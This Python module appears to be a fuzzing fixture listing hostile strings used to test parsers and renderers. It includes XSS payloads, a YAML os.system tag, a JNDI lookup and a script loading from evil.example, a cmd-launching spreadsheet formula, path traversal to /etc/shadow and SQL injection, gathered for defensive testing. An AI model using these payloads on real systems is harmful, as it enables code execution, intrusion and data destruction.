"""Sixty and more strings that have broken YAML, Markdown, HTML, templates, spreadsheets, terminals and file systems."""

from __future__ import annotations

YAML = [
    "---\nlicense: mit\n---\n",
    "...\n---\nconfigs: []",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "*alias",
    "<<: {license: mit}",
    "{a: b, c: [d",
    "key: |\n  text\nlicense: apache-2.0",
    "'\"\n\tx: y",
    "no",
    "1e3",
    "2026-01-01",
    "~",
    "%YAML 1.1\n---\na: 1",
    "# comment\nlicense: mit",
    "configs:\n- config_name: models\n  data_files: secret.parquet",
]
MARKDOWN = [
    "](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "| a | b |\n| --- | --- |\n| c | d |",
    "|",
    "\\|",
    "```\n</code>",
    "`code`",
    "~~~",
    "# Heading\n\n> quote",
    "[ref]: javascript:alert(1)\n[ref]",
    "www.evil.example",
    "http://evil.example/?q=[x]",
    "**bold** _it_",
    "&lt;script&gt;",
    "\n\n<details open ontoggle=alert(1)>",
]
HTML = [
    "<script>alert(1)</script>",
    "</td></tr></table><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!-- --><style>*{display:none}</style>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "' onmouseover='alert(1)",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{name}",
    "{0.__class__}",
    "%(name)s %n",
    "${jndi:ldap://evil.example/a}",
    "#{1+1}",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    '=HYPERLINK("https://evil.example")',
]
TERMINALS = [
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x7f\x08\x08",
    "a\rb",
    "\u202egnp.exe",
    "\u2066a\u2069\u200b",
]
PATHS = ["../../etc/passwd", "/etc/shadow", "..\\..\\x", "C:\\x", "CON", "data/models/x.parquet", "**/*.parquet", "~/x"]
OTHERS = [
    "a\0b",
    "\0",
    "x" * 100_000,
    "\u2028line\u2029",
    "e\u0301\u0327",
    "\U0001f98a",
    " ",
    "\ufeffx",
    "'; DROP TABLE x;--",
]
HOSTILE = [*YAML, *MARKDOWN, *HTML, *TEMPLATES, *FORMULAS, *TERMINALS, *PATHS, *OTHERS]
